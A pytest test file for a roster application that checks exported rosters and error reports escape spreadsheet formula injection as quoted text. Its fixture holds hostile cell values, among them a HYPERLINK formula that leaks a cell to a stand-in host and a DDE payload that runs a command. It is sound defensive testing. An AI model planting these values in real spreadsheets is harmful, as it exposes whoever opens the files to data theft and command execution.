"""Values that a spreadsheet would run as formulas come back out as quoted text, never as formulas:
in the roster export and in the error report that echoes the uploaded cells."""

from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook

from wangge.core.cells import safe_value
from wangge.core.exports import result_path
from wangge.core.spreadsheets import raw_rows
from wangge.people.exporting import person_export
from wangge.people.importing.service import roster_import_file
from wangge.people.models import Person
from wangge.people.tests.roster_files import person_row, write_roster

HOSTILE = {
    201: '=HYPERLINK("http://example.com/?"&A1,"点我")',
    202: "+1+cmd|' /C calc'!A0",
    203: "-2+3",
    204: "@SUM(A1:A9)",
}


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def cells_of(content: bytes) -> list:
    sheet = load_workbook(BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("value", [*HOSTILE.values(), "\tcmd", "\r=1+1"])
def test_text_starting_like_a_formula_is_quoted(value):
    assert safe_value(value) == "'" + value


@pytest.mark.parametrize("value", ["张三", "13800138000", "", 12, -3.5, None, "a=b"])
def test_other_values_are_written_as_they_are(value):
    assert safe_value(value) == value


def test_imported_formula_names_come_back_as_quoted_text_in_the_export(world, tmp_path):
    # given persons whose names and notes are formulas, imported from a roster (a CSV file: its
    # cells are text, as a formula typed after a quote in Excel would be)
    rows = [person_row(serial, name, 备注=name) for serial, name in HOSTILE.items()]
    roster_import_file(path=write_roster(tmp_path / "r.csv", rows), street_name="江南街道")
    assert set(HOSTILE.values()) <= set(Person.objects.values_list("name", flat=True))

    # when the roster is exported
    exported = person_export(by=world.users["alice"], reason="screening")

    # then no cell is a formula and each hostile value is there, quoted
    cells = cells_of(result_path(exported).read_bytes())
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = [cell.value for cell in cells]
    for hostile in HOSTILE.values():
        assert values.count("'" + hostile) == 2  # the name and the note
        assert hostile not in values


def test_the_error_report_echoes_uploaded_formulas_as_quoted_text(world, tmp_path):
    # given rejected rows (bad phone) whose names are formulas
    rows = [person_row(serial, name, 联系电话="12") for serial, name in HOSTILE.items()]

    # when they are imported and the error report is written
    outcome = roster_import_file(
        path=write_roster(tmp_path / "r.csv", rows), street_name="江南街道"
    )

    # then the report holds the names as quoted text, no formula
    cells = cells_of(Path(outcome.report).read_bytes())
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    names = [cell.value for cell in cells if cell.column == 3]
    assert names[1:] == ["'" + name for name in HOSTILE.values()]


def test_the_error_report_reads_back_as_it_was_uploaded(world, tmp_path):
    # given an error report holding quoted formulas and a phone written with +86
    rows = [person_row(serial, name, 联系电话="12") for serial, name in HOSTILE.items()]
    rows.append(person_row(205, "冯五", 联系电话="+86 12", 备注="+86"))
    outcome = roster_import_file(
        path=write_roster(tmp_path / "r.csv", rows), street_name="江南街道"
    )

    # when it is read again, the quotes are gone
    cells = list(raw_rows(outcome.report))[1:]
    assert [row[2] for row in cells] == [*HOSTILE.values(), "冯五"]
    assert "+86 12" in cells[-1] and "+86" in cells[-1]
